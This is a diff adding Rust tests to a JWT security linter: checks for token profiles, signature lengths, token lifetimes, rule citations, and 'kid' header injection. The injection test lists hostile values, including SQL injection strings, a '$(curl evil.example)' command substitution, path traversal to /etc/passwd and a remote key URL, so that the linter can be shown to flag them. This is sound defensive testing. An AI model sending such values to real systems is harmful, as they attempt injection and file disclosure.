@@ -139,7 +139,21 @@ fn every_rule_fires_on_its_crafted_token() {
         ),
         (
             "jti-missing",
-            hs256(&h(), &with(c(), "jti", Value::Null), k),
+            hs256(
+                &with(h(), "typ", json!("at+jwt")),
+                &with(c(), "jti", Value::Null),
+                k,
+            ),
+            opts(),
+        ),
+        (
+            "signature-length",
+            raw(r#"{"alg":"RS256","typ":"JWT"}"#, &c().to_string(), &[7; 14]),
+            opts(),
+        ),
+        (
+            "typ-not-at-jwt",
+            hs256(&h(), &with(c(), "scope", json!("read")), k),
             opts(),
         ),
         (
@@ -321,4 +335,155 @@ fn non_json_payloads_skip_claim_checks() {
         &[1; 64],
     );
     assert_eq!(ids(&t, &opts()), Vec::<String>::new());
+}
+
+fn evidence(token: &str, id: &str) -> Option<String> {
+    let d = decode(token).unwrap();
+    lint(&d, &opts())
+        .into_iter()
+        .find(|f| f.id == id)
+        .map(|f| f.evidence)
+}
+
+#[test]
+fn jti_is_asked_of_access_tokens_only_and_profiles_are_detected() {
+    let k = STRONG;
+    let no_jti = with(clean_claims(), "jti", Value::Null);
+    let id_token = with(no_jti.clone(), "nonce", json!("n-0S6"));
+    let access = with(no_jti.clone(), "client_id", json!("s6Bh"));
+    let typed = hs256(&with(clean_header(), "typ", json!("at+jwt")), &no_jti, k);
+    for (token, want, jti) in [
+        (
+            hs256(&clean_header(), &id_token, k),
+            Profile::IdToken,
+            false,
+        ),
+        (
+            hs256(&clean_header(), &access, k),
+            Profile::AccessToken,
+            true,
+        ),
+        (typed, Profile::AccessToken, true),
+        (hs256(&clean_header(), &no_jti, k), Profile::Other, false),
+    ] {
+        let d = decode(&token).unwrap();
+        assert_eq!(profile(&d), want);
+        assert_eq!(
+            ids(&token, &opts()).contains(&"jti-missing".into()),
+            jti,
+            "{want:?}"
+        );
+    }
+    // typ JWT on an access token is named; at+jwt is not.
+    let e = evidence(&hs256(&clean_header(), &access, k), "typ-not-at-jwt").unwrap();
+    assert!(e.contains("typ \"JWT\""), "{e}");
+    let at = hs256(&with(clean_header(), "typ", json!("at+jwt")), &access, k);
+    assert_eq!(evidence(&at, "typ-not-at-jwt"), None);
+}
+
+#[test]
+fn a_truncated_signature_is_named_with_its_length() {
+    let claims = clean_claims().to_string();
+    let e = evidence(
+        &raw(r#"{"alg":"RS256","typ":"JWT"}"#, &claims, &[7; 14]),
+        "signature-length",
+    )
+    .unwrap();
+    assert_eq!(
+        e,
+        "the RS256 signature is 14 bytes; RS256 signatures are as long as the RSA modulus, at least 256 bytes"
+    );
+    let t = raw(r#"{"alg":"ES512","typ":"JWT"}"#, &claims, &[7; 64]);
+    assert!(
+        evidence(&t, "signature-length")
+            .unwrap()
+            .contains("ES512 signatures are 132 bytes")
+    );
+    for (alg, len) in [
+        ("RS256", 256),
+        ("RS512", 512),
+        ("ES512", 132),
+        ("EdDSA", 64),
+        ("HS384", 48),
+    ] {
+        let t = raw(
+            &format!(r#"{{"alg":"{alg}","typ":"JWT"}}"#),
+            &claims,
+            &vec![7; len],
+        );
+        assert_eq!(evidence(&t, "signature-length"), None, "{alg} {len}");
+    }
+}
+
+#[test]
+fn kid_injection_shapes_are_flagged_and_plain_ids_are_not() {
+    for kid in [
+        "1 UNION SELECT 'secret'",
+        "x' OR '1'='1",
+        "k; DROP TABLE keys",
+        "$(curl evil.example)",
+        "key`id`",
+        "..%2f..%2fetc%2fpasswd",
+        "/etc/passwd",
+        "file:///dev/null",
+        "https://evil.example/key.pem",
+    ] {
+        let t = hs256(
+            &with(clean_header(), "kid", json!(kid)),
+            &clean_claims(),
+            STRONG,
+        );
+        assert!(evidence(&t, "kid-injection").is_some(), "{kid}");
+    }
+    for kid in [
+        "2024-09-key-1",
+        "NzbLsXh8uDCcd-6MNwXF4W_7noWXFZAfHkxZsRGC9Xs",
+        "1e9gdk7",
+        "union-key",
+    ] {
+        let t = hs256(
+            &with(clean_header(), "kid", json!(kid)),
+            &clean_claims(),
+            STRONG,
+        );
+        assert_eq!(evidence(&t, "kid-injection"), None, "{kid}");
+    }
+}
+
+#[test]
+fn lifetime_evidence_is_exact_to_the_minute() {
+    let claims = with(clean_claims(), "exp", json!(NOW - 60 + 24 * 3600 + 300));
+    let e = evidence(&hs256(&clean_header(), &claims, STRONG), "lifetime-long").unwrap();
+    assert_eq!(e, "exp is 24 h 05 min after iat; the policy allows 24 h");
+    assert_eq!(exact_duration(15 * 60), "15 min");
+    assert_eq!(exact_duration(3630), "1 h 00 min 30 s");
+}
+
+#[test]
+fn every_rule_cites_its_source_in_its_why() {
+    for r in RULES {
+        assert!(
+            ["RFC ", "OIDC Core", "CVE-"]
+                .iter()
+                .any(|s| r.why.contains(s)),
+            "{}: {}",
+            r.id,
+            r.why
+        );
+    }
+}
+
+#[test]
+fn public_sample_tokens_give_exactly_the_findings_a_reviewer_expects() {
+    let doc: Value =
+        serde_json::from_str(include_str!("../../tests/data/jwt_public_tokens.json")).unwrap();
+    let now = doc["now"].as_i64().unwrap();
+    for t in doc["tokens"].as_array().unwrap() {
+        let token = t["token"].as_str().unwrap();
+        let mut got = ids(token, &LintOptions::new(now));
+        let mut want: Vec<String> = serde_json::from_value(t["expected"].clone()).unwrap();
+        got.sort();
+        want.sort();
+        assert_eq!(got, want, "{} ({})", t["name"], t["source"]);
+    }
 }
